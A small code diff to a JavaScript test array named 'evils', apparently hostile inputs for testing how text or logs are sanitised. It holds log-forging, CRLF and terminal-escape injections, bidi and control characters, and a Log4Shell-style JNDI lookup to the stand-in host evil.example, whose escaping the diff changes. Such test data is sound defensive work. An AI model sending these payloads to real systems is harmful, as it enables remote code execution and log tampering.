@@ -21,7 +21,7 @@ const evils = [
   '\u202eevil\u2066',
   '"}\n{"msg":"forged',
   '%0d%0a%1b[2J',
-  '${jndi:ldap://evil.example/a} %s %d %o {{7*7}}',
+  '$\u007bjndi:ldap://evil.example/a} %s %d %o {{7*7}}',
   '\0\u0008\u007f',
   '\ud800 half a pair',
 ];
